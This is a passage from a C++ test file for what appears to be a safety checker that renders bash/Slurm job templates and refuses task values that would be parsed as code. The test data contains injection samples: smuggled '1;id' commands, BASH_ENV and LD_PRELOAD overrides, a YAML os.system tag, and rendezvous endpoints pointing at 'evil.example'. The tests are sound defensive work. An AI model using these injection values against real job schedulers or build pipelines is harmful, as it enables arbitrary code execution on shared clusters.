    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  expect_refusals({
      {"#SBATCH --container=%X%", "/home/glue/bundle", "bundles/base"},
      {"#SBATCH --bb=\"stage_out source=/scratch/out destination=%X% type=directory\"", "/home/glue/.bashrc", "out1"},
      {"#SBATCH --bb=\"stage_out source=/scratch/out destination=/data/%X% type=directory\"", "a b", "out1"},
      {"srun --bb=\"stage_in source=/data/%X% type=file\" true", "x type=directory", "in1"},
  });
  sg::compiler::Source source("t.tpl", kHead + std::string("sed -n \"${CLEARML_TASK.name|number}p\" data.txt\n"));
  const auto c = sg::compiler::compile(source);
  ASSERT_NE(c.renderer, nullptr);
  sg::render::Values values;
  values.task = {{"id", "0123456789abcdef"}, {"name", "1e0"}};
  std::string script;
  std::vector<sg::render::RenderError> errors;
  EXPECT_FALSE(c.renderer->render(values, script, errors)) << script;
  values.task["name"] = "12";
  EXPECT_TRUE(c.renderer->render(values, script, errors));
  EXPECT_NE(script.find("sed -n \"12p\""), std::string::npos) << script;
  // In an s command's replacement sed copies the number (attack 188): 3e-4
  // renders there; after the replacement (a flag) it is a command again.
  const auto renders = [&](const std::string& line, const std::string& value) {
    const auto compiled = sg::compiler::compile(sg::compiler::Source("t.tpl", kHead + line + "\n"));
    values.task["name"] = value;
    return compiled.renderer && compiled.renderer->render(values, script, errors);
  };
  EXPECT_TRUE(renders("sed -i \"s/^lr:.*/lr: ${CLEARML_TASK.name|number}/\" c.yaml", "3e-4")) << script;
  EXPECT_NE(script.find("s/^lr:.*/lr: 3e-4/"), std::string::npos) << script;
  EXPECT_TRUE(renders("sed -e 's/a/b/;/^x/s|lr=.*|lr='\"${CLEARML_TASK.name|number}|\" c.cfg", "1E5"));
  for (const char* line : {"sed -i \"s/a/b/${CLEARML_TASK.name|number}\" c.yaml", "sed -n \"1,${CLEARML_TASK.name|number}p\" f",
                           "sed -i \"s${CLEARML_TASK.name|number}a1b1\" f", "sed \"s/a/$X${CLEARML_TASK.name|number}/\" f"})
    EXPECT_FALSE(renders(line, "1e0")) << line;
}

// Fifty-third review: variables whose value names code a program loads
// (autoconf's CONFIG_SITE, gawk's and m4's paths, the Hugging Face caches'
// older names, Airflow's settings) and the rendezvous a distributed job
// joins (as a launcher's option: MASTER_ADDR and RAY_ADDRESS stay data,
// since templates set them from the job's node list).
TEST(ValueSinks, SiteFilesSearchPathsAndRendezvous) {
  for (const char* form : {"export CONFIG_SITE=\"%X%\"\n./configure", "CONFIG_SITE=\"%X%\" ./configure",
                           "srun --export=ALL,CONFIG_SITE=\"%X%\" ./configure", "export AWKPATH=\"%X%\"",
                           "export AWKLIBPATH=\"%X%\"", "export M4PATH=\"%X%\"", "export GVIMINIT=\"%X%\"",
                           "export HUGGINGFACE_HUB_CACHE=\"%X%\"", "export PYTORCH_TRANSFORMERS_CACHE=\"%X%\"",
                           "export AIRFLOW__CORE__DAGS_FOLDER=\"%X%\"", "export AIRFLOW_CONFIG=\"%X%\"",
                           "export TERMINFO_DIRS=\"%X%\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  expect_refusals({
      {"torchrun --nnodes 2 --rdzv_endpoint \"%X%\" train.py", "evil.example:29500", "node01"},
      {"deepspeed --master_addr=\"%X%\" train.py", "unix:/tmp/s", "node01"},
      {"accelerate launch --main_process_ip \"%X%\" train.py", "evil.example:1", "node01"},
  });
  // scontrol show hostnames expands the node list it is given: none of the
  // directives' other values (a job name, a time) reaches the rendezvous.
  for (const char* list : {"", " \"$SLURM_JOB_NODELIST\""}) {
    const std::string multi_node = std::string("#SBATCH --job-name=%X%\n#SBATCH --nodes=2\n") +
                                   "export MASTER_ADDR=$(scontrol show hostnames" + list + " | head -n 1)\n" +
                                   "srun torchrun --nnodes=2 --rdzv_endpoint=\"$MASTER_ADDR:29500\" train.py";
    EXPECT_FALSE(refuses(placement(task(multi_node)), "resnet50_baseline.v2-run")) << list;
  }
  EXPECT_TRUE(refuses(placement(task("#SBATCH --nodelist=%X%\nexport MASTER_ADDR=$(scontrol show hostnames | head -n 1)\n"
                                     "srun torchrun --rdzv_endpoint=\"$MASTER_ADDR:29500\" train.py")),
                      "evil.example:1"));
}

// Fifty-fourth review: the bash language itself. A declaration builtin or
// a NAME= written with quotes is an ordinary word (split and globbed); the
// positional parameters a top-level getopts reads are options; arrays made
// by read -a, an element's default or [[ =~ ]]; an associative array's keys
// and BASH_ARGV expanded unquoted; and a shift by a computed count.
TEST(ValueSinks, QuotedDeclarationsGetoptsArraysKeysAndShifts) {
  for (const char* form : {"LR=\"%X%\"\n\\export TRAIN_LR=$LR", "LR=\"%X%\"\n\"export\" TRAIN_LR=$LR",
                           "LR=\"%X%\"\nexport \"TRAIN_LR\"=$LR", "LR=\"%X%\"\nexport TRAIN_\\LR=$LR",
                           "LR=\"%X%\"\nf() { \\local A=$LR; }\nf"})
    EXPECT_TRUE(refuses(placement(task(form)), "0.1 BASH_ENV=x")) << form;
  EXPECT_FALSE(refuses(placement(task("LR=\"%X%\"\nexport TRAIN_LR=$LR")), "0.1 BASH_ENV=x"))
      << "a declaration written plainly assigns its value whole";
  expect_refusals({
      {"OUT=results\nset -- \"%X%\"\nwhile getopts \"o:\" opt; do case $opt in o) OUT=$OPTARG;; esac; done\n"
       "echo done > \"$OUT\"",
       "-o/home/glue/.bashrc", "data1"},
      {"set -- \"%X%\"\nwhile getopts \"d\" o; do case $o in d) D=--debug;; esac; done\npython3 a.py $D", "-d",
       "data1"},
      {"declare -A TAGS\nTAGS[\"%X%\"]=1\nmkdir -p tags/${!TAGS[@]}", "x /home/glue", "baseline"},
      {"declare -A TAGS\nTAGS[\"%X%\"]=1\npython3 a.py ${TAGS[@]@K}", "a --evil", "baseline"},
      {"set -- x \"%X%\"\npython3 a.py ${BASH_ARGV[0]}", "x /home/glue", "baseline"},
  });
  for (const char* form : {"read -ra P <<< \"a b\"\ntypeset P=\"%X%\"", ": \"${NODES[0]:=n1}\"\ndeclare NODES=\"%X%\"",
                           "[[ x =~ (x) ]]\ndeclare BASH_REMATCH=\"%X%\"", "declare -n R=P\ndeclare R=\"%X%\"",
                           "f() { local -a Q; g; }\ng() { local Q=\"%X%\"; }\nf"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("f() { local msg=\"%X%\"; echo \"$msg\"; }\nf")).empty());
  // shift $((OPTIND-1)): "$@" is some of the call's words, none the command.
  for (const char* form : {"f() { shift $((OPTIND-1)); python3 a.py \"$@\"; }\nf \"%X%\" data",
                           "f() { local OPTIND o; while getopts \"dx:\" o; do :; done; shift $((OPTIND-1)); "
                           "python3 a.py \"$@\"; }\nf \"%X%\" data"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(refused(task("f() { shift $((OPTIND-1)); \"$@\"; }\nf python3 \"%X%\""), "placeholder-command"));
}

// Fifty-fifth review: a cloned tree is the repository the URL names, so the
// branch a task picks is data wherever the tree lands (a directory named
// through a variable too), while a URL from a value still names code.
TEST(ValueSinks, AClonedTreeCarriesItsUrlNotItsBranch) {
  for (const char* dir : {"src", "\"$WORK\""}) {
    const std::string clone = std::string("WORK=work/${CLEARML_TASK.id}\ngit clone --depth 1 --branch \"%X%\" ") +
                              "https://git.example/acme/ml.git " + dir + "\ncd " + dir + "\npython3 train.py";
    EXPECT_TRUE(rules(task(clone)).empty()) << dir;
  }
  EXPECT_TRUE(rules(task("git clone --branch \"%X%\" https://git.example/acme/ml.git src\npython3 src/train.py")).empty());
  for (const char* form : {"git clone \"https://git.example/%X%.git\" src\npython3 src/train.py",
                           "R=\"%X%\"\ngit clone \"$R\" \"$W\"\ncd \"$W\"\npython3 train.py",
                           // Relative names after cd into the tree are in it; pip
                           // builds a tree it installs (setup.py runs).
                           "git clone --depth 1 \"%X%\" src\ncd src && python3 train.py",
                           "git clone \"%X%\" src\npushd src\n./run.sh", "git clone \"%X%\" src\npip install -e src",
                           "git clone \"%X%\" src\npip install ./src", "git clone \"%X%\" src\ncd src\npip install .",
                           "git clone \"%X%\" src\npython3 -m pip install --no-deps src",
                           // Entering the tree is enough: python imports from it,
                           // make and npm read its project files.
                           "git clone \"%X%\" src\ncd src\npython3 -c 'import torch'", "git clone \"%X%\" src\n(cd src && make -j8)",
                           "git clone \"%X%\" src\npip install \"./src[dev]\"", "git clone \"%X%\" src\npip install src/.",
                           "git clone \"%X%\" src\npip install -r src/requirements.txt", "git clone \"%X%\" src\npython3 -m build src",
                           "git clone \"%X%\" models\nexport PYTHONPATH=\"$PWD/models${PYTHONPATH:+:$PYTHONPATH}\"\npython3 /opt/t.py",
                           "git clone \"%X%\" src\nexport CDPATH=.:src\ncd scripts",
                           // Other ways a value fills a tree with code.
                           "CODE=/shared/ml\ngit -C \"$CODE\" fetch --depth 1 \"%X%\" main\npython3 \"$CODE/train.py\"",
                           "git pull \"%X%\" main\npython3 train.py", "git clone \"%X%\" src\nenv -C src python3 train.py",
                           "git clone \"%X%\" src\nsrun --chdir=src python3 train.py", "git submodule add \"%X%\" ext/lib\ncd ext/lib",
                           "clearml-data get --id \"%X%\" --copy code\npython3 code/train.py",
                           "hf download \"%X%\" --local-dir m\ncd m", "aws s3 sync \"s3://b/%X%\" code\nbash code/run.sh",
                           "aws s3 cp --recursive \"%X%\" code\nbash code/run.sh",
                           "gsutil -m cp -r \"gs://b/%X%\" code\npython3 code/t.py", "wget -r -P site \"%X%\"\ncd site",
                           "aws s3 cp \"s3://b/%X%\" code --recursive --quiet\nbash code/run.sh",
                           // Files of code in the tree that tools run or build.
                           "git clone \"%X%\" src\njupyter nbconvert --execute src/prep.ipynb",
                           "git clone \"%X%\" src\nconda env create -f src/environment.yml",
                           "git clone \"%X%\" src\ncommand cd src", "git clone \"%X%\" src\npip install --editable=src",
                           "git remote add up \"%X%\"\ngit fetch up\ngit checkout FETCH_HEAD\npython3 train.py",
                           "git fetch --deepen 5 \"%X%\" main\npython3 train.py",
                           "git submodule add \"https://git.example/%X%/lib.git\"\ncd lib",
                           "git clone \"%X%\" src\nsphinx-build src/docs out", "git clone \"%X%\" src\nquarto render src/r.qmd",
                           "git clone \"%X%\" src\nmeson setup build src", "git clone \"%X%\" src\ngo run ./src",
                           "git clone \"%X%\" src\ndotnet run --project src", "git clone \"%X%\" src\npytest --rootdir=src tests"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // A file of requirements is a list of packages (data), and changing into
  // another directory leaves relative names out of the tree.
  for (const char* form : {"git clone --branch \"%X%\" https://git.example/acme/ml.git src\ncd src && pip install -e .",
                           "git clone \"https://git.example/acme/ml.git\" src\necho \"%X%\" > reqs.txt\n"
                           "pip install -r reqs.txt\ncd src\npython3 train.py",
                           "git clone \"%X%\" src\ncd /scratch/run\npython3 /opt/train.py",
                           // Data a value chooses, downloaded where no code is loaded from.
                           "hf download \"%X%\" --local-dir ckpt\npython3 /opt/t.py --model-dir ckpt",
                           "clearml-data get --id \"%X%\"\npython3 /opt/t.py", "git fetch origin \"%X%\"",
                           "git clone \"%X%\" data\nexport PYTHONPATH=/opt/lib\npython3 /opt/t.py --data data",
                           "git clone \"%X%\" data\nexport PYTHONPATH=/opt/data/lib\npython3 /opt/t.py",
                           "git clone \"%X%\" src\nMODEL_PATH=src/ckpt\npython3 /opt/t.py --model \"$MODEL_PATH\"",
                           "echo \"%X%\" > run.txt\npip install /opt/wheels/*.whl", "wget -Omodel.pt \"%X%\"\npython3 /opt/t.py",
                           "tar xf \"/data/%X%.tar\" -C \"$TMPDIR\"\ncd \"$SLURM_SUBMIT_DIR\"\nsrun hostname",
                           "git clone \"%X%\" src\ncd src/..\npython3 /opt/t.py", "git -C src fetch \"%X%\"\ngit -C src log -1",
                           "python3 -m build --outdir \"/scratch/dist/%X%\" .",
                           // Staging and downloads into directories that are not entered.
                           "D=\"%X%\"\nsrun --ntasks-per-node=1 rsync -a \"/shared/datasets/$D/\" \"/local/$USER/$D/\"\n"
                           "srun python train.py --data \"/local/$USER/$D\"",
                           "D=/scratch/data\naws s3 sync \"s3://b/%X%\" \"$D\"\npython3 train.py",
                           // (fr43/01) From a local directory aws s3 copies into a bucket.
                           "python train.py\naws s3 cp --recursive outputs/ \"%X%/run/\"",
                           "DATA_DIR=data/run\nclearml-data get --id \"%X%\" --copy \"$DATA_DIR\"\npython3 train.py --data \"$DATA_DIR\""})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
}

// Fifty-fifth review: a value exported under a name no rule knows reaches
// every program the job runs, which may take the name as a file to load or
// write (SYSTEM_WGETRC, VIM, DEPENDENCIES_OUTPUT) or as its options (ZIP,
// GCC_COMPARE_DEBUG): no path from '/' or '~', no '..', no option. Names
// trackers read as free text, and variables the template keeps to itself,
// take any text.
TEST(ValueSinks, ValuesExportedUnderUnknownNamesAreNoPathsOrOptions) {
  expect_refusals({
      {"export SYSTEM_WGETRC=\"%X%\"\nwget -q https://data.example/a", "/home/glue/evil.rc", "exp1"},
      {"export TRAINER_OPTS=\"%X%\"", "-x", "fast"},
      {"export TRAINER_EXTRA_ARGS=\"%X%\"", "fast --import=x", "fast"},
      {"ZIP=\"%X%\" zip -r out.zip results", "x -TT sh", "x y"},
      {"V=\"%X%\"\nexport VIM=\"$V\"", "~/.vim", "v1"},
      {"D=\"%X%\"\nexport D", "runs/../../home/glue", "runs/exp1"},
      {"set -a\nD=\"%X%\"", "/home/glue", "runs"},
      {"env FOO=\"%X%\" python3 t.py", "/home/glue/x", "x"},
      {"declare -x D=\"%X%\"", "~/x", "x-1"},
      {"srun --export=ALL,D=\"%X%\" python3 t.py", "/home/glue/x", "x"},
      {"#SBATCH --export=ALL,DEPENDENCIES_OUTPUT=%X%", "/home/glue/.bashrc", "deps.txt"},
  });
  EXPECT_FALSE(rules(task("export _PYTHON_SYSCONFIGDATA_NAME=\"%X%\"")).empty());
  EXPECT_FALSE(rules(task("export GCC_COMPARE_DEBUG=\"%X%\"\ngcc -c a.c")).empty());
  for (const char* name : {"CONFIG_SHELL", "JAVACMD", "LOG4J_CONFIGURATION_FILE", "TAPE", "GOPROXY", "GOTOOLCHAIN", "PGHOST"})
    EXPECT_FALSE(rules(task(std::string("export ") + name + "=\"%X%\"")).empty()) << name;
  // A name that holds no options takes a '-' (a seed of -1, a run's name).
  EXPECT_FALSE(refuses(placement(task("export SEED=\"%X%\"")), "-1"));
  EXPECT_FALSE(refuses(placement(task("export RUN_NAME=\"%X%\"")), "exp 3 - lr sweep"));
  // Environment items written in quotes, systemd-run's, and every
  // variable under set -o allexport or #!/bin/bash -a.
  for (const char* form : {"docker run -e \"FOO=%X%\" img", "V=\"%X%\"\nsingularity exec --no-eval --env \"FOO=$V\" i.sif true",
                           "systemd-run -E FOO=\"%X%\" true", "shopt -so allexport\nD=\"%X%\"",
                           "echo \"LD_PRELOAD=%X%\" > job.env\ndocker run --env-file job.env img",
                           "cat > .env <<EOF\nPYTHONPATH=%X%\nEOF"})
    EXPECT_TRUE(refuses(placement(task(form)), "/home/glue/x")) << form;
  EXPECT_FALSE(refuses(placement(task("export WANDB_NAME=\"%X%\"")), "-- ablation /x"));
  EXPECT_FALSE(refuses(placement(task("D=\"%X%\"\npython3 t.py --data \"$D\"")), "/datasets/x"));
}

// Fifty-seventh review: an integer variable evaluates the text it is given,
// where a bare NAME is that variable's value evaluated again (and a
// subscript in it runs code), however the text arrives.
TEST(ValueSinks, BareNamesGivenToIntegerVariablesAreArithmetic) {
  for (const char* given : {"N=RUN_NAME", "N+=RUN_NAME*2", "export N=RUN_NAME", "read N <<< RUN_NAME",
                            "printf -v N %s RUN_NAME", "for N in RUN_NAME; do :; done", ": ${N:=RUN_NAME}",
                            "N=(RUN_NAME)", "f() { local -i n; n=RUN_NAME; }\nf"}) {
    const std::string form = std::string("RUN_NAME=\"%X%\"\ndeclare -i N\n") + given;
    EXPECT_EQ(placement(task(form)).context.quoting, sg::render::Quoting::Arithmetic) << given;
  }
  // Without an integer variable, or where a declaration names the variable, text stays text.
  EXPECT_NE(placement(task("RUN_NAME=\"%X%\"\nN=RUN_NAME\necho \"$N\"")).context.quoting,
            sg::render::Quoting::Arithmetic);
  EXPECT_NE(placement(task("OK=\"%X%\"\ndeclare -i STEPS=100\nexport OK\npython3 t.py --name \"$OK\"")).context.quoting,
            sg::render::Quoting::Arithmetic);
}

// Fifty-sixth review: code this shell runs from a here-document on standard
// input (source /dev/stdin), from what a substitution prints (source
// <(echo ...), eval "$(printf ...)") or from a file the template wrote
// (source job.env) is read with the template's variables.
TEST(ValueSinks, CodeSourcedFromStdinSubstitutionsAndWrittenFiles) {
  for (const char* form : {"H=\"%X%\"\nsource /dev/stdin <<'EOF'\nexport NODE_OPTIONS=\"--x=$H\"\nEOF",
                           "H=\"%X%\"\n. <(echo 'export NODE_OPTIONS=\"--x=$H\"')",
                           "H=\"%X%\"\nsource <(cat <<'EOF'\nexport NODE_OPTIONS=\"--x=$H\"\nEOF\n)",
                           "H=\"%X%\"\necho 'export NODE_OPTIONS=\"--x=$H\"' > env.txt\nsource env.txt",
                           "H=\"%X%\"\ncat > job.env <<'EOF'\nexport NODE_OPTIONS=\"--x=$H\"\nEOF\n. ./job.env"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"H=\"%X%\"\neval \"$(echo 'srun --cpus-per-task=$H python3 t.py')\"",
                           "H=\"%X%\"\nsource <(printf '%s\\n' 'srun --cpus-per-task=$H python3 t.py')"})
    EXPECT_TRUE(refuses(placement(task(form)), "2 --container-image=x")) << form;
  // What a program prints (conda's hook) is not the template's text.
  EXPECT_TRUE(rules(task("H=\"%X%\"\neval \"$(conda shell.bash hook)\"\npython3 t.py --x \"$H\"")).empty());
}

// Fifty-eighth review: an srun option written with quotes around its name
// keeps its rules for a variable in its value, and a name exported at run
// time (export "$v", export ${!P@}, set -$OPTS, eval set -a) may be any.
TEST(ValueSinks, QuotedSlurmOptionsAndNamesExportedAtRunTime) {
  for (const char* form : {"LR=\"%X%\"\nsrun \"--export=ALL,LR=$LR\" python3 t.py",
                           "LR=\"%X%\"\nsrun '--export'=\"ALL,LR=$LR\" python3 t.py"})
    EXPECT_TRUE(refuses(placement(task(form)), "0.1,BASH_ENV=x")) << form;
  for (const char* form : {"W=\"%X%\"\nsrun \"--chdir=$W\" python3 t.py", "W=\"%X%\"\nsrun \"-D$W\" python3 t.py"})
    EXPECT_TRUE(refuses(placement(task(form)), "/home/glue/evil")) << form;
  for (const char* exported : {"for v in D; do export \"$v\"; done", "eval set -a", "set -$OPTS"})
    EXPECT_TRUE(refuses(placement(task(std::string("D=\"%X%\"\n") + exported)), "/home/glue/x")) << exported;
  EXPECT_FALSE(refuses(placement(task("D=\"%X%\"\nexport PATH=\"$HOME/bin:$PATH\"")), "/datasets/x"));
}

// Fifty-ninth review: a file that code in a string writes (bash -c '... >
// F') is a file the template wrote when the template reads it after.
TEST(ValueSinks, FilesWrittenByCodeStrings) {
  for (const char* form : {"export LR=\"%X%\"\nbash -c 'printf \"%s\\n\" \"$LR\" > run.txt'\nsource run.txt",
                           "export LR=\"%X%\"\neval 'echo \"$LR\" > run.txt'\n. ./run.txt"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_FALSE(refused(task("export LR=\"%X%\"\nbash -c 'echo \"$LR\" > run.txt'\nsource env.sh"),
                       "value-parsed-as-code"));
}

// Fifty-ninth review: what a substitution prints in an srun or container
// option (a list joined with IFS=, or by a function) fills that part of the
// option as a variable written there would.
TEST(ValueSinks, SubstitutionsInListOptions) {
  expect_refusals({
      {"LR=\"%X%\"\nE=(ALL \"LR=$LR\")\nsrun --export=\"$(IFS=,; echo \"${E[*]}\")\" bash t.sh", "0.1,BASH_ENV=x", "abc"},
      {"j() { local IFS=\"$1\"; shift; echo \"$*\"; }\nLR=\"%X%\"\nsrun --export=\"$(j , ALL \"LR=$LR\")\" bash t.sh",
       "0.1,BASH_ENV=x", "abc"},
      {"srun --export=\"ALL,LR=$(echo \"%X%\")\" bash t.sh", "0.1,BASH_ENV=x", "0.1"},
      {"srun --export=\"ALL,LR=`echo %X%`\" bash t.sh", "0.1,BASH_ENV=x", "0.1"},
      {"D=\"%X%\"\nM=(\"/datasets/$D:/data\")\nsrun --container-mounts=\"$(IFS=,; echo \"${M[*]}\")\" python3 t.py",
       "x:/data,/home:/mnt", "imagenet"},
      {"docker run -e \"$(echo %X%)\" img python3 t.py", "BASH_ENV=/tmp/x", "LR"},
      {"N=\"%X%\"\nsingularity exec --no-eval --env \"$(echo $N)\" img python3 t.py", "BASH_ENV=/tmp/x", "LR"},
  });
  // After the '=' of an item, the printed text is the variable's value.
  EXPECT_FALSE(refuses(placement(task("N=\"%X%\"\ndocker run -e \"LR=$(echo $N)\" img python3 t.py")), "BASH_ENV=x"));
}

// Fifty-ninth review: a file a program reads while the template does not
// say its format (no extension, a template's suffix, <(...)) may be parsed
// as YAML: a value there stays one scalar (a tag would build an object).
TEST(ValueSinks, FilesOfUnsaidFormatHoldOneScalar) {
  const char* tag = "!!python/object/apply:os.system [touch x]";
  expect_refusals({
      {"cat > run_config <<EOF\nlr: %X%\nEOF\npython3 train.py --config run_config", tag, "3e-4"},
      {"echo \"lr: %X%\" > run.params\n./train --params=run.params", tag, "3e-4"},
      {"python3 train.py --config <(printf 'lr: %s\\n' \"%X%\")", tag, "3e-4"},
      {"cat > cfg.yaml.j2 <<EOF\nlr: %X%\nEOF\ncp cfg.yaml.j2 /tmp/x", "a: b", "3e-4"},
      {"cat > values.yaml~ <<EOF\nlr: %X%\nEOF\ncp values.yaml~ /tmp/x", "[x]", "3e-4"},
  });
  // Programs that only move or show the bytes read no structure.
  EXPECT_FALSE(refuses(placement(task("echo \"%X%\" > note\ncat note\ncp note /tmp/n")), tag));
}

// Sixtieth review: an array or variable of srun's or a runner's options the
// template writes out stands for its words where it stands, so the command
// after it is known ("a command chosen at run time" refused every value
// after srun "${SRUN_ARGS[@]}"), and an option left open in it (-o) takes
// the next word: the word after that is the command, not the first.
TEST(ValueSinks, ArraysOfOptionsBeforeTheCommandAreReadAsOptions) {
  for (const char* form : {"A=(--nodes=\"$SLURM_NNODES\" --ntasks-per-node=1)\nsrun \"${A[@]}\" python3 t.py --lr \"%X%\"",
                           "A=(-N 2 --exclusive)\nA2=(--bind /data:/data)\nsrun \"${A[@]}\" apptainer exec \"${A2[@]}\" i.sif "
                           "python3 t.py --name \"%X%\"",
                           "O=\"--nodes=2 -l\"\nsrun $O python3 t.py --lr \"%X%\"",
                           "A=(-o log.txt)\nsrun \"${A[@]}\" python3 t.py \"%X%\""})
    EXPECT_FALSE(refused(task(form), "placeholder-command")) << form;
  for (const char* form : {"A=(--nodes=2 -o)\nsrun \"${A[@]}\" python3 \"%X%\"",
                           "A=(-o)\nsrun \"${A[@]}\" log.txt \"%X%\"", "O=\"--nodes=2 -o\"\nsrun $O python3 \"%X%\"",
                           "O=-o\nsrun $O python3 \"%X%\" t.py"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  // Where the words may not be what the lists say, nothing is known.
  for (const char* form : {"A=(-N 2)\nA+=(-o)\nsrun \"${A[@]}\" log.txt python3 t.py \"%X%\"",
                           "A=(--nodes=2)\nread -ra A <<< \"$B\"\nsrun \"${A[@]}\" python3 t.py \"%X%\"",
                           "A=(--nodes=2)\neval 'A+=(bash)'\nsrun \"${A[@]}\" -c \"%X%\"",
                           "A=(-lN\"$N\")\nsrun \"${A[@]}\" python3 t.py \"%X%\"",
                           "A=(--nodes=2)\nsrun ${A[@]} python3 t.py \"%X%\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  // Each option keeps its rules.
  EXPECT_TRUE(refuses(placement(task("LR=\"%X%\"\nA=(--export=ALL,LR=\"$LR\")\nsrun \"${A[@]}\" python3 t.py")),
                      "1,BASH_ENV=/tmp/x"));
  EXPECT_TRUE(refuses(placement(task("W=\"%X%\"\nA=(--chdir=\"$W\")\nsrun \"${A[@]}\" python3 t.py")), "../.."));
}

// Sixtieth review: a copy holds what its sources hold, not their names, so
// staging a data set named by a value is no code; but where code reads the
// copy, the value naming its source names code. A script's own --output
// is the script's business: python3 has read train.py before it writes.
TEST(ValueSinks, CopiesHoldTheirSourcesAndTheirSourcesNameCode) {
  for (const char* form : {"cp -r \"/shared/datasets/%X%\" \"$SLURM_TMPDIR/\"\npython3 train.py",
                           "D=\"%X%\"\nrsync -a \"/shared/$D/\" \"/tmp/$SLURM_JOB_ID/$D/\"\npython3 train.py --data \"/tmp/$D\"",
                           "python3 train.py --output \"%X%\" --lr 1",
                           "python3 train.py --output=\"%X%\"",
                           "S=/tmp/job_${SLURM_JOB_ID}\ncp \"/shared/datasets/%X%/meta.json\" \"$S/\"\nLOG=\"$S/job.log\"\n"
                           "python3 train.py --run-name \"${CLEARML_TASK.hyperparams.Args.run.value}\" 2>&1 | tee -a \"$LOG\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  expect_refusals({
      {"cp \"/shared/%X%\" run.py\npython3 run.py", "../etc/x", "x"},
      {"ln -s \"/opt/%X%\" run.sh\nbash run.sh", "../x", "x"},
      {"cp \"/shared/%X%\" a.txt\ncp a.txt run.sh\nbash run.sh", "../x", "x"},
      {"S=\"%X%\"\nrsync -a \"/opt/$S/\" ./code/\nbash ./code/run.sh", "../x", "x"},
      {"cp \"%X%\" run.sh\nbash run.sh", "/tmp/evil.sh", "tools/launch.sh"},
  });
  // What the copied file holds still reaches the copy.
  EXPECT_TRUE(refused(task("echo \"echo %X%\" > a.txt\ncp a.txt run.sh\nbash run.sh"), "value-parsed-as-code"));
}

// Sixtieth review: a value that alone names the file a program reads
// (python3 ${entry_point}), in a template that writes files it names
// (| tee logs/train.log, > "$OUT/job.log"), may name none of them: the
// renderer checks that, where every value was refused as code before.
// tee writes what it reads, not the names it is given.
TEST(ValueSinks, AValueNamingAReadFileNamesNoneTheTemplateWrites) {
  for (const char* form : {"python3 %X% | tee logs/train.log",
                           "LOG=\"${CLEARML_TASK.hyperparams.Args.out.value}/job.log\"\nexec > >(tee -a \"$LOG\") 2>&1\n"
                           "echo \"run ${CLEARML_TASK.hyperparams.Args.run.value}\"\npython3 %X%"})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
  expect_refusals({
      {"python3 %X% | tee logs/train.log", "logs/train.log", "train.py"},
      {"echo \"$LR\" > cfg.txt\nbash scripts/%X%", "../cfg.txt", "run.sh"},
      {"echo \"$LR\" > \"$OUT/${ID}.log\"\npython3 %X%", "x/a.log", "train.py"},
      {"echo \"$LR\" > params.txt\npython3 %X%", "/dev/fd/3", "train.py"},
      {"echo \"$LR\" > params.txt\npython3 %X%", "params.txt", "params.py"},
  });
  // A copy into a directory takes its source's name; a tree the template
  // copies holds files under its name.
  expect_refusals({
      {"echo \"$Q\" > a.txt\ncp a.txt gen/\nbash gen/%X%", "a.txt", "run.sh"},
      {"echo \"$Q\" > a/b.txt\ncp -r a \"$OUT/\"\nbash %X%", "a/run.sh", "tools/run.sh"},
  });
  // A name the template rewrites (${LOG/.log/.desc}), or an extglob, may be
  // any file: refused as before.
  for (const char* form : {"LOG=\"$OUT/train.log\"\necho \"${CLEARML_TASK.comment}\" > \"${LOG/.log/.desc}\"\npython3 %X%",
                           "LOG=run/train.log\necho \"${CLEARML_TASK.comment}\" > \"${LOG//log/notes}\"\nbash %X%",
                           "shopt -s extglob\necho \"${CLEARML_TASK.comment}\" > @(job.log)\npython3 %X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Files named at run time leave nothing to check: refused as before.
  EXPECT_TRUE(refused(task("echo \"print(${CLEARML_TASK.hyperparams.Args.q.value})\" > \"$F\"\npython3 %X%"),
                      "value-parsed-as-code"));
}

// Sixtieth review: what the template makes of a value that keeps its
// start (dirname), a bracket class with a quoted '/', an arithmetic
// result (a decimal integer) and a script's own --output behind a runner
// are read as what they are, not as a value cut anywhere or written.
TEST(ValueSinks, RewritesThatKeepAValueInItsPlaceAreReadExactly) {
  for (const char* form : {"LOG=\"%X%/job.log\"\nmkdir -p \"$(dirname \"$LOG\")\"",
                           "IMAGE=\"%X%\"\nIMG=\"/shared/images/${IMAGE//[\\/:]/_}.sif\"\napptainer exec \"$IMG\" python3 t.py",
                           "N=$(( SLURM_NNODES * ${CLEARML_TASK.hyperparams.Args.gpus.value:8} ))\n"
                           "srun bash -c \"accelerate launch --num_processes $N t.py\"",
                           "srun python3 train.py --output \"/run/%X%\"",
                           "apptainer exec i.sif python3 train.py --output \"/run/%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  expect_refusals({
      {"LOG=\"%X%/job.log\"\nmkdir -p \"$(dirname \"$LOG\")\"", "/etc/x", "runs/exp1"},
      {"LOG=\"%X%\"\nrm -rf \"$(dirname \"$LOG\")\"", "a/../../x", "runs/exp1/job.log"},
      {"IMAGE=\"%X%\"\ntouch \"/shared/${IMAGE//[\\/:]/_}.sif\"", "..", "nvcr.io/nvidia/pytorch:24.01-py3"},
  });
  // The value in the arithmetic is still an integer.
  sg::compiler::Source source("t.tpl", kHead + task("N=$(( 2 * %X% ))\nsrun bash -c \"echo $N\""));
  const auto c = sg::compiler::compile(source);
  ASSERT_NE(c.renderer, nullptr);
  sg::render::Values values;
  values.task = {{"id", "0123456789abcdef"}, {"name", "1;id"}};
  std::string script;
  std::vector<sg::render::RenderError> errors;
  EXPECT_FALSE(c.renderer->render(values, script, errors)) << script;
  values.task["name"] = "4";
  EXPECT_TRUE(c.renderer->render(values, script, errors));
}

// fr hunts 75 and 78: JSON that jq builds from a value (an object or array
// the filter writes, the value an escaped string) kept in a variable starts
